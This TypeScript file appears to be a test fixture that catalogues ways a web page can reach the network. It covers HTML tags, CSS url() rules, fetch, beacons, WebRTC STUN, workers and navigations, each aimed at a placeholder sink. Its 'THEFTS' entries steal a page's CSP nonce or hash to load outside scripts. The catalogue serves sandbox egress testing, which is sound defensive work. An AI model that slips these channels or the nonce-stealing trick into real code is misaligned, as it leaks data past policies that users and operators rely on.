/**
 * Ways by which a page reaches the network, each by a name of its own: what generated code would try that has something
 * to tell. `@url` stands for an address at the sinks that only this attempt knows, `@rest` for the same without its
 * scheme, `@tcp` and `@udp` for a `host:port` of its own.
 */
export interface WayOut {
  name: string;
  html?: string;
  css?: string;
  js?: string;
  /** It leads the document away, or wants it for itself. */
  alone?: true;
  /** A click on `#go` does it. */
  click?: true;
  /** Only a lookup of its name shows it. */
  lookup?: true;
  /** Why the negative control sees nothing either; absent where it does. */
  unseen?: string;
}

const ON_GO = 'document.getElementById("go").addEventListener("click", (event) => {';

const MARKUP: WayOut[] = [
  { name: 'img', html: '<img src="@url">' },
  { name: 'srcset', html: '<img srcset="@url 1x">' },
  { name: 'picture', html: '<picture><source srcset="@url"><img alt=""></picture>' },
  { name: 'poster', html: '<video poster="@url"></video>' },
  { name: 'video', html: '<video src="@url" preload="auto"></video>' },
  { name: 'audio', html: '<audio src="@url" preload="auto"></audio>' },
  { name: 'source', html: '<video preload="auto"><source src="@url" type="video/mp4"></video>' },
  { name: 'track', html: '<video crossorigin><track src="@url" default kind="subtitles"></video>' },
  { name: 'svg-image', html: '<svg><image href="@url" width="9" height="9"/></svg>' },
  {
    name: 'fe-image',
    html: '<svg><filter id="f"><feImage href="@url"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
  },
  { name: 'object', html: '<object data="@url"></object>' },
  { name: 'embed', html: '<embed src="@url">' },
  { name: 'iframe', html: '<iframe src="@url"></iframe>' },
  { name: 'srcdoc', html: `<iframe srcdoc="<img src='@url'>"></iframe>` },
  {
    name: 'srcdoc-refresh',
    html: `<iframe srcdoc="<meta http-equiv=refresh content='0;url=@url'>"></iframe>`,
  },
  { name: 'input-image', html: '<input type="image" src="@url">' },
  { name: 'stylesheet', html: '<link rel="stylesheet" href="@url">' },
  { name: 'preload', html: '<link rel="preload" as="image" href="@url">' },
  { name: 'prefetch', html: '<link rel="prefetch" href="@url">' },
  { name: 'module-preload', html: '<link rel="modulepreload" href="@url">' },
  { name: 'dns-prefetch', html: '<link rel="dns-prefetch" href="@rest">', lookup: true },
  { name: 'preconnect', html: '<link rel="preconnect" href="http://@tcp">' },
  { name: 'preconnect-tls', html: '<link rel="preconnect" href="https://@tcp">' },
  { name: 'attribution', html: '<img attributionsrc="@url" src="@url">' },
];

const STYLES: WayOut[] = [
  { name: 'css-background', html: '<i class="bg">.</i>', css: '.bg { background: url("@url"); }' },
  { name: 'css-import', css: '@import "@url";' },
  { name: 'css-import-layer', css: '@import url(@url) layer(x);' },
  {
    name: 'css-font-face',
    html: '<i class="ff">.</i>',
    css: '@font-face { font-family: x1; src: url("@url"); } .ff { font-family: x1; }',
  },
  { name: 'css-cursor', html: '<i class="cu">.</i>', css: '.cu { cursor: url("@url"), auto; }' },
  { name: 'css-image-set', html: '<i class="is">.</i>', css: '.is { background: image-set("@url" 1x); }' },
  { name: 'css-mask', html: '<i class="ma">.</i>', css: '.ma { mask-image: url("@url"); }' },
  { name: 'css-content', html: '<i class="co">.</i>', css: '.co::before { content: url("@url"); }' },
  { name: 'css-list', html: '<ul class="li"><li>.</ul>', css: '.li { list-style-image: url("@url"); }' },
  {
    name: 'css-border',
    html: '<i class="bo">.</i>',
    css: '.bo { border: 3px solid; border-image: url("@url") 3; }',
  },
  { name: 'css-attribute', html: `<i style="background: url('@url')">.</i>` },
];

/** What leaves no trace in the document: all of them can be tried at once. */
const CALLS: WayOut[] = [
  { name: 'fetch', js: 'fetch("@url")' },
  { name: 'fetch-no-cors', js: 'fetch("@url", { mode: "no-cors", method: "POST", body: "x" })' },
  { name: 'fetch-keepalive', js: 'fetch("@url", { keepalive: true, method: "POST", body: "x" })' },
  { name: 'fetch-later', js: 'fetchLater("https://@tcp/", { activateAfter: 0 })' },
  { name: 'xhr', js: 'const x = new XMLHttpRequest(); x.open("GET", "@url"); x.send();' },
  { name: 'xhr-sync', js: 'const x = new XMLHttpRequest(); x.open("GET", "@url", false); x.send();' },
  { name: 'beacon', js: 'navigator.sendBeacon("@url", "x")' },
  { name: 'websocket', js: 'new WebSocket("ws:@rest")' },
  { name: 'event-source', js: 'new EventSource("@url")' },
  { name: 'image', js: 'new Image().src = "@url"' },
  { name: 'font-face', js: 'new FontFace("x2", "url(@url)").load()' },
  {
    name: 'css-sheet',
    js: 'const s = new CSSStyleSheet(); s.replaceSync("body { background: url(@url) }"); document.adoptedStyleSheets.push(s);',
  },
  {
    name: 'script',
    js: 'const s = document.createElement("script"); s.src = "@url"; document.body.append(s);',
  },
  { name: 'import', js: 'import("@url")' },
  {
    name: 'module',
    js: 'const s = document.createElement("script"); s.type = "module"; s.src = "@url"; document.body.append(s);',
  },
  {
    name: 'worker',
    js: `const b = new Blob(['fetch("@url")'], { type: 'text/javascript' }); new Worker(URL.createObjectURL(b));`,
  },
  { name: 'worker-data', js: `new Worker('data:text/javascript,fetch("@url")')` },
  { name: 'shared-worker', js: `new SharedWorker('data:text/javascript,fetch("@url")')` },
  { name: 'worklet', js: 'new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule("@url")' },
  { name: 'paint-worklet', js: 'CSS.paintWorklet.addModule("@url")' },
  {
    name: 'speculation',
    js: `const s = document.createElement('script'); s.type = 'speculationrules';
      s.textContent = '{"prefetch":[{"source":"list","urls":["@url"]}]}'; document.body.append(s);`,
    unseen: 'Chromium speculates for its main frames only, and not without a window',
  },
  {
    name: 'csp-report',
    js: `const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy';
      m.content = "img-src 'none'; report-uri @url"; document.head.append(m); new Image().src = 'http://127.0.0.1:9/';`,
    alone: true,
    unseen: 'a policy in the markup may not report',
  },
  {
    name: 'hint-by-script',
    js: 'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "@rest"; document.head.append(l);',
  },
  { name: 'web-transport', js: 'new WebTransport("https://@udp/")' },
  {
    name: 'webrtc',
    js: `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:@udp' }] });
      c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o));`,
  },
  {
    name: 'webrtc-blank',
    js: `const f = document.createElement('iframe'); document.body.append(f);
      const c = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:@udp' }] });
      c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o));`,
  },
  {
    name: 'blank-fetch',
    js: 'const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.fetch("@url");',
  },
  {
    name: 'blank-import',
    js: `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.eval('import("@url")');`,
  },
];

/** A violation tells who listens the whole policy; what it holds may open more than it closes. */
const STOLEN = `document.addEventListener('securitypolicyviolation', ({ originalPolicy }) => {
    const nonce = /'nonce-([^']+)'/.exec(originalPolicy)?.[1] ?? '';`;
const VIOLATE = `}, { once: true }); new Image().src = 'http://127.0.0.1:9/';`;
const NO_POLICY = 'a page without a policy has nothing to steal; the plain form of it is seen';

const THEFTS: WayOut[] = [
  {
    name: 'stolen-nonce-script',
    js: `${STOLEN} const s = document.createElement('script'); s.nonce = nonce; s.src = '@url'; document.body.append(s); ${VIOLATE}`,
    unseen: NO_POLICY,
  },
  {
    name: 'stolen-nonce-preload',
    js: `${STOLEN} const l = document.createElement('link'); l.rel = 'preload'; l.as = 'script'; l.nonce = nonce; l.href = '@url';
      document.head.append(l); ${VIOLATE}`,
    unseen: NO_POLICY,
  },
  {
    name: 'stolen-hash-script',
    js: `document.addEventListener('securitypolicyviolation', ({ originalPolicy }) => {
        const hash = /'(sha256-[^']+)'/.exec(originalPolicy)?.[1] ?? ''; const s = document.createElement('script');
        s.integrity = hash; s.crossOrigin = 'anonymous'; s.src = '@url'; document.body.append(s); ${VIOLATE}`,
    unseen: NO_POLICY,
  },
  {
    name: 'stolen-nonce-webrtc',
    js: `${STOLEN} const f = document.createElement('iframe');
      f.srcdoc = '<script nonce="' + nonce + '">const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:@udp" }] });' +
        'c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))</' + 'script>';
      document.body.append(f); ${VIOLATE}`,
    unseen: NO_POLICY,
  },
];

const NAVIGATIONS: WayOut[] = [
  { name: 'location', js: 'location.href = "@url"', alone: true },
  { name: 'location-replace', js: 'location.replace("@url")', alone: true },
  { name: 'navigation-api', js: 'navigation.navigate("@url")', alone: true },
  { name: 'refresh', html: '<meta http-equiv="refresh" content="0;url=@url">', alone: true },
  {
    name: 'refresh-by-script',
    js: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=@url'; document.head.append(m);`,
    alone: true,
  },
  { name: 'form', js: formOf('get'), alone: true },
  { name: 'form-post', js: formOf('post'), alone: true },
  { name: 'link', html: '<a id="go" href="@url">Go</a>', click: true, alone: true },
  {
    name: 'link-kept-from-the-runtime',
    html: '<a id="go" href="@url">Go</a>',
    js: 'document.getElementById("go").addEventListener("click", (event) => event.stopImmediatePropagation());',
    click: true,
    alone: true,
  },
  { name: 'link-top', html: '<a id="go" href="@url" target="_top">Go</a>', click: true, alone: true },
  {
    name: 'ping',
    html: '<a id="go" href="#here" ping="@url">Go</a>',
    js: `${ON_GO} event.stopImmediatePropagation(); });`,
    click: true,
    alone: true,
  },
  {
    name: 'new-window',
    html: '<button id="go">Go</button>',
    js: `${ON_GO} open("@url"); });`,
    click: true,
    alone: true,
  },
  {
    name: 'new-window-noopener',
    html: '<button id="go">Go</button>',
    js: `${ON_GO} open("@url", "", "noopener"); });`,
    click: true,
    alone: true,
  },
  {
    name: 'download',
    html: '<a id="go" href="@url" download="x">Go</a>',
    js: `${ON_GO} event.stopImmediatePropagation(); });`,
    click: true,
    alone: true,
  },
  { name: 'top-location', js: 'top.location = "@url"', alone: true },
  {
    name: 'blank-location',
    js: 'const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location = "@url";',
    alone: true,
  },
];

function formOf(method: string): string {
  return `const f = document.createElement('form'); f.action = '@url'; f.method = '${method}'; document.body.append(f); f.submit();`;
}

export const WAYS_OUT: readonly WayOut[] = [...MARKUP, ...STYLES, ...CALLS, ...THEFTS, ...NAVIGATIONS];
